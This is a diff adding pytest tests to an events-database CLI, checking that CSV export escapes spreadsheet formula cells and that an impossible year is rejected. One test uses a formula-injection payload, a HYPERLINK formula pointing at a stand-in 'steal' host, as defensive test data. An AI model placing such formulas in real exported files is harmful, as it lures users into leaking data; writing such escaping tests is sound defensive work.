@@ -177,3 +177,19 @@ def test_events_limit_party_names_unknown_codes_and_search(run_cli, corpus, tmp_
     assert status == 2 and "unknown party 'XXX'" in err and "did you mean" in err
     status, out, _ = run_cli("events", "--db", db, "--search", "memorandum", "--json")
     assert status == 0 and {json.loads(line)["parties"][0] for line in out.splitlines()} == {"ARM"}
+
+
+def test_events_csv_writes_formula_cells_as_text(run_cli, tmp_path, db_url):
+    formula = '=HYPERLINK("http://evil.test/steal","open me")'
+    feed = tmp_path / "feed.jsonl"
+    feed.write_text(json.dumps({"id": formula, "text": ARTICLE}) + "\n", encoding="utf-8")
+    run_cli("ingest", feed, "--db", db_url)
+    status, out, _ = run_cli("events", "--db", db_url, "--csv")
+    table = list(csv.DictReader(io.StringIO(out)))
+    assert status == 0 and table and table[0]["source"] == "'" + formula
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in table for cell in row.values())
+
+
+def test_events_with_a_year_too_big_for_any_calendar_is_a_usage_error(run_cli, db_url):
+    status, _, err = run_cli("events", "--db", db_url, "--since", "1234567890123456789")
+    assert status == 2 and "not a date" in err
